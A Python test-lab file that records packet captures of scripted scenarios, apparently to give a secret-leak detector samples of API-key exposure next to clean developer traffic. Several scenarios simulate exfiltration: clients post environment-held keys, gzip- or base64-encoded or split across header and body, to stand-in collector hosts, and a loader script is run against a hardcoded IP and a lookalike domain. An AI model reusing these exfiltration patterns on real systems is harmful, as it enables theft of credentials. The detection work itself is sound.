"""What is recorded: one function a capture, named after its file. Each returns when its traffic is over."""

import sys
import time
from pathlib import Path

from lab import HERE

CLIENTS = HERE / "clients"
PYTHON = sys.executable


def jetbrains_plugin(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80", keys=[keys.new("sk-48")])
    with recording(lab):
        lab.run_client("java", CLIENTS / "PluginSettings.java", API_KEY=keys.new("openai-legacy"))


def telnyx_upload(lab, keys):
    lab.serve(lab.server, "0.0.0.0:8080")
    address = "http://83.142.209.203:8080/"
    with recording(lab):
        lab.run_client(PYTHON, CLIENTS / "tpcp_loader.py", address, "--sound", address + "ringtone.wav")


def litellm_upload_tls(lab, keys):
    lab.serve(lab.server, "0.0.0.0:443/tls")
    with recording(lab, nanoseconds=True):
        lab.run_client(
            PYTHON, CLIENTS / "tpcp_loader.py", "https://models.litellm.cloud/", "--cacert", lab.work / "ca.pem")


def plaintext_openai(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "chat.py", "http://api.openai.com/v1/chat/completions",
            API_KEY=keys.new("openai-project"))


def gzip_leak(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "post_env_gzip.py", "http://collector.example.net/", API_KEY=keys.new("anthropic"))


def base64_leak(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            "node", CLIENTS / "post_env_base64.mjs", "http://drop.example.org/u",
            ANTHROPIC=keys.new("anthropic"), GROQ=keys.new("groq"))


def openai_tls(lab, keys):
    lab.serve(lab.server, "0.0.0.0:443/tls")
    url, key = "https://api.openai.com/v1/chat/completions", keys.new("openai-project")
    with recording(lab, nanoseconds=True):
        lab.run_client(PYTHON, CLIENTS / "chat.py", url, API_KEY=key, REQUESTS_CA_BUNDLE=str(lab.work / "ca.pem"))
        lab.run_client("java", CLIENTS / "TLSClient.java", lab.work / "ca.pem", url, API_KEY=key)
        lab.run_client(
            "curl", "-sf", "--tls-max", "1.2", "--cacert", lab.work / "ca.pem", url,
            "-H", f"Authorization: Bearer {key}", "--json", '{"model":"gpt-4o-mini","messages":[]}')


def clean_developer(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    apt, site = lab.work / "apt", "http://www.example.com"
    for folder in ("lists/partial", "cache/archives/partial", "etc"):
        (apt / folder).mkdir(parents=True)
    (apt / "sources.list").write_text(
        "deb [trusted=yes arch=all] http://deb.example.net stable main contrib non-free\n")
    update = [
        "apt-get", "-qq", "update", "-o", f"Dir::Etc={apt}/etc", "-o", f"Dir::Etc::SourceList={apt}/sources.list",
        "-o", f"Dir::State::Lists={apt}/lists", "-o", f"Dir::Cache={apt}/cache", "-o", "APT::Sandbox::User=root",
        "-o", "Acquire::Languages=none", "-o", "Acquire::Check-Date=false"]
    with recording(lab):
        lab.run_client(
            PYTHON, "-m", "pip", "--isolated", "--no-input", "--disable-pip-version-check", "download", "-q",
            "--no-deps", "--no-cache-dir", "--index-url", "http://pypi.example.net/simple/",
            "--trusted-host", "pypi.example.net", "tinypkg", PIP_CONFIG_FILE="/dev/null")
        lab.run_client(
            "npm", "install", "--silent", "--no-audit", "--no-fund", "--no-update-notifier", "--ignore-scripts",
            "--registry", "http://registry.example.net/", "--prefix", lab.work / "node", "tiny-lib")
        lab.run_client(*update)
        lab.run_client(*update)  # The second time the Release file is unchanged: 304.
        lab.run_client("git", "clone", "-q", "http://git.example.net/project.git", "clone", GIT_CONFIG_NOSYSTEM="1")
        lab.run_client(
            "curl", "-sf", "--compressed", "-o", "/dev/null", f"{site}/index.html", "-o", "/dev/null",
            f"{site}/site.css", "-o", "/dev/null", f"{site}/site.js", "-o", "/dev/null", f"{site}/favicon.ico")
        lab.run_client("curl", "-sf", "-I", f"{site}/index.html")
        lab.run_client("curl", "-sf", "--etag-save", "etag", "-o", "/dev/null", f"{site}/api/builds.json")
        lab.run_client("curl", "-sf", "--etag-compare", "etag", "-o", "/dev/null", f"{site}/api/builds.json")
        lab.run_client("curl", "-sf", "--http1.0", f"{site}/site.js")
        lab.run_client("curl", "-sf", f"{site}/stream")
        lab.run_client(PYTHON, CLIENTS / "pipeline.py", "www.example.com", "/site.css", "/stream", "/site.js", "/stream")


def request_burst(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "chat.py", "http://api.together.xyz/v1/chat/completions", 150, 15,
            API_KEY=keys.new("together"))


def key_exposure(lab, keys):
    lab.serve(lab.server, "0.0.0.0:8080", keys=[keys.new("anthropic")])
    with recording(lab):
        lab.run_client(
            "curl", "-sf", "--interface", "10.23.5.10", "http://keys.corp.example:8080/v1/credentials/research")


def gateway(lab, keys):
    lab.serve(lab.server, "[::]:80")
    with recording(lab):
        lab.run_client(
            "node", CLIENTS / "anthropic.mjs", "http://llm-gateway.corp.example", API_KEY=keys.new("anthropic"))


def split_key(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "split_key.py", "collector.example.net",
            BODY_KEY=keys.new("anthropic"), HEAD_KEY=keys.new("openai-project"))


def loopback(lab, keys):
    lab.serve(lab.client, "127.0.0.1:11434")
    with recording(lab, interface="lo"):
        lab.run_client(
            PYTHON, CLIENTS / "chat.py", "http://127.0.0.1:11434/v1/chat/completions",
            API_KEY=keys.new("openai-project"))


class recording:
    """tcpdump runs while the block does; the lab knows which file."""

    def __init__(self, lab, **options):
        self.lab, self.options = lab, options

    def __enter__(self):
        self.capture = self.lab.record(self.lab.work / "recording.pcap", **self.options)

    def __exit__(self, failure, *_):
        if failure is None:
            self.lab.stop_recording(self.capture)


SCENARIOS = [
    jetbrains_plugin, telnyx_upload, litellm_upload_tls, plaintext_openai, gzip_leak, base64_leak, openai_tls,
    clean_developer, request_burst, key_exposure, gateway, split_key, loopback,
]
